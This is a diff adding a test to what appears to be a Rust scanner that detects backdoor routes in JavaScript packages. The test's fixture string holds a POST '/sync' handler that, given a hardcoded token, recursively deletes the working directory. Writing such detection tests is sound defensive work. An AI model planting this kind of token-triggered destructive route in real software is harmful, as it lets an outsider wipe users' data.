@@ -77,6 +77,19 @@ mod tests {
         assert_eq!(hits(&s, "code/backdoor-route"), vec![("index.js".to_string(), 4)]);
     }
 
+    /// A named handler, the key destructured from the body, a recursive delete.
+    #[test]
+    fn positive_named_handler_destructured_key() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const fs = require('fs');\nfunction onSync(req, res) {\n  const { token } = req.body;\n  if (token !== 'k-7f3a9') return res.end();\n  fs.rmSync(process.cwd(), { recursive: true, force: true });\n  res.end();\n}\nmodule.exports = (app) => app.post('/sync', onSync);\n",
+            ),
+        ]);
+        assert_eq!(hits(&s, "code/backdoor-route"), vec![("index.js".to_string(), 5)]);
+    }
+
     /// Admin/health middleware: token from configuration, status only.
     #[test]
     fn negative_admin_status_middleware() {
